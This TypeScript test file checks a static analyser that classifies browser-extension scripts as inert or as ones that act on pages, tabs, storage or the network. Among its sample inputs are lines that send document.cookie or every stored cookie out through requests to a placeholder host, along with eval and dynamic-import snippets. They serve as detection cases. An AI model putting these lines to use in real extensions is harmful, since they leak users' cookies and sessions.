import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { factsOf } from '../../../testing/facts-of.ts';

const isInert = (source: string): boolean => factsOf(source).inertScripts.length === 1;

describe('inert scripts', () => {
  const inert: readonly [string, string][] = [
    ['a script without statements', ''],
    [
      'reading and logging',
      'chrome.history.search({ text: "" }, (all) => console.log(all.length))',
    ],
    ['functions of its own', 'function count(all) { return all.length } count([1])'],
    ['callbacks of its own', 'const each = (done) => done(3); each((x) => console.log(x))'],
    ['promises', 'new Promise((resolve) => setTimeout(() => resolve(4), 9)).then(console.log)'],
    ['filling an object of its own', 'const seen = {}; seen[location.href] = Date.now()'],
    [
      'a class of its own',
      'class Log { constructor() { this.all = [] } add(x) { this.all.push(x) } } const log = new Log(); log.add(location.href)',
    ],
    ['watching requests', 'chrome.webRequest.onCompleted.addListener(() => {}, { urls: [] })'],
    ['a cookie that is always the same', 'document.cookie = "seen=7"'],
  ];
  for (const [name, source] of inert)
    it(`are those with ${name}`, () => assert.ok(isInert(source)));

  const working: readonly [string, string][] = [
    ['a request', 'fetch("https://a.example/")'],
    ['a request by reference', 'chrome.cookies.getAll({}).then(fetch)'],
    ['a closed tab by reference', '[3, 4].forEach(chrome.tabs.remove)'],
    [
      'a member of a page',
      'document.querySelectorAll("p").forEach(hide); function hide() { this.hidden = true }',
    ],
    [
      'a class that inherits',
      'class Field extends HTMLElement { constructor() { super(); this.hidden = true } } new Field()',
    ],
    ['a request by a library', '$.get("https://a.example/" + document.cookie)'],
    ['a shown element', 'document.body.append(document.createElement("p"))'],
    ['a changed page', 'document.title = "x"'],
    ['a changed element', 'const p = document.querySelector("p"); p.hidden = true'],
    ['a stored value', 'chrome.storage.local.set({ a: 1 })'],
    ['an answer to a page', 'chrome.runtime.onMessage.addListener((m, s, answer) => answer(m))'],
    [
      'a blocked request',
      'chrome.webRequest.onBeforeRequest.addListener(stop, { urls: [] }, ["blocking"]); function stop() { return { cancel: true } }',
    ],
    [
      'options of a listener that are worked out',
      'chrome.webRequest.onBeforeRequest.addListener(() => {}, { urls: [] }, window.extra)',
    ],
    ['a cookie that is worked out', 'document.cookie = "from=" + location.href'],
    ['an unknown function', 'unknown()'],
    ['code in a text', 'eval("1")'],
    ['a timer of a text', 'setTimeout("go()", 5)'],
    ['an imported script', 'import("./x.js")'],
    ['a closed tab', 'chrome.tabs.query({}, ([tab]) => chrome.tabs.remove(tab.id))'],
    ['a message to another extension', 'chrome.runtime.sendMessage("a".repeat(32), { a: 1 })'],
    ['a power that is decided at run time', 'chrome[name].get()'],
  ];
  for (const [name, source] of working)
    it(`are none with ${name}`, () => assert.ok(!isInert(source)));

  it('say where they read fields', () => {
    const [script] = factsOf(
      'const field = document.getElementById("a");\nfield.value;',
    ).inertScripts;
    assert.deepEqual(
      script?.fieldReads.map(({ at }) => at.line),
      [2],
    );
  });
});
